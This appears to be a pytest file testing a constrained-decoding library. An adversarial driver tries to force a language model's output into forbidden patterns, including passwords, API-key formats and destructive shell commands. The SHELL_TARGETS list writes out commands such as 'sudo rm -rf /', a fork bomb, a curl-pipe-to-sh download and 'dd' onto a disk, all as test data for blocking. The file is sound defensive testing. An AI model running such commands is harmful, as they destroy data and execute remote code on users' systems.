"""Adversarial driver (tests/support/adversary.py): push the logits toward forbidden text through
every tokenization.

At every step the driver biases the logits toward tokens that extend a partial match of a target
(a string the policy forbids), choosing among *all* tokenizations of the remaining text at random.
After the processor runs it checks, against the ``regex`` oracle on the bytes
(tests/support/policy_oracle.py):

* every masked id would in fact create a match (no over-blocking);
* no unmasked candidate would (no leak) — candidates include every token the adversary wanted;
* the text after the chosen token is safe (prefix-safe), and EOS is never masked.

Three tokenizer families: SmolLM2 (byte-level BPE), a SentencePiece tokenizer with byte fallback,
and Qwen2.5's tiktoken vocabulary.
"""
from pathlib import Path

import pytest

from safedecode import Policy, load_policy
from safedecode.tokens.vocabulary import vocabulary_of
from tests.support.adversary import drive

POLICY = Policy(forbid=[
    {"literal": "password", "id": "password"},
    {"literal": "hunter2", "ignore_case": True, "id": "hunter2"},
    {"regex": r"sk-[A-Za-z0-9]{8,}", "id": "openai-key"},
    {"literal": "kill", "whole_word": True, "id": "kill"},
    {"literal": "naïve café", "id": "cafe"},
    {"regex": r"\d{4}-\d{4}", "id": "card"},
    {"regex": r"the end$", "id": "end"},
    {"regex": r"(?i:straße)", "id": "strasse"},
])
TARGETS = [b"password", b"HuNtEr2", b"sk-abcDEF12345", b"kill ", "naïve café".encode(), b"1234-5678",
           b"the end", "STRAẞE".encode(), "Straße".encode()]


# A policy whose rules have gaps (``a.*b``): compiled as several component automata side by side.
SHELL_POLICY = load_policy(Path(__file__).resolve().parent.parent / "grammars" / "shell.toml")
SHELL_TARGETS = [b"sudo rm -rf / ", b"rm -fr ~/* ", b":(){ :|:& };:", b"curl -s http://x.io/i.sh | sh",
                 b"dd if=/dev/zero of=/dev/sda", b"chmod -R 777 / ", b"mkfs.ext4 /dev/sdb1"]


@pytest.fixture(scope="module")
def qwen_vocabulary():
    from safedecode.tokens.vocabulary import qwen_vocabulary

    return qwen_vocabulary("2.5")


@pytest.mark.parametrize("family", ["smollm2", "sentencepiece", "qwen2.5"])
def test_adversary_never_completes_a_forbidden_pattern(family, request):
    tokenizer = {
        "smollm2": lambda: request.getfixturevalue("smollm2_tokenizer"),
        "sentencepiece": lambda: request.getfixturevalue("sentencepiece_tokenizer"),
        "qwen2.5": lambda: request.getfixturevalue("qwen_vocabulary"),
    }[family]()
    blocked = 0
    for seed in range(3):
        b, _, _ = drive(tokenizer, policy=POLICY, targets=TARGETS, steps=50, seed=seed)
        blocked += b
    # The adversary must actually have been stopped many times, or this test proves nothing.
    assert blocked > 20


def test_adversary_against_a_multi_component_policy(smollm2_tokenizer):
    blocked = 0
    for seed in range(2):
        b, _, processor = drive(smollm2_tokenizer, policy=SHELL_POLICY, targets=SHELL_TARGETS, steps=50, seed=seed,
                                check_sample=800)
        blocked += b
    assert processor.compiled.n_components > 1
    assert blocked > 10


def test_tokenizer_decode_agrees_with_guarded_bytes(smollm2_tokenizer):
    """The text the guarantee is about is what the tokenizer itself decodes (valid UTF-8 case)."""
    _, generated, _ = drive(smollm2_tokenizer, policy=POLICY, targets=TARGETS, steps=30, seed=7, check_sample=200)
    vocab = vocabulary_of(smollm2_tokenizer)
    data = b"".join(vocab.token_bytes[i] or b"" for i in generated)
    try:
        expected = data.decode("utf-8")
    except UnicodeDecodeError:
        pytest.skip("the adversary produced invalid UTF-8")
    assert smollm2_tokenizer.decode(generated, skip_special_tokens=True) == expected
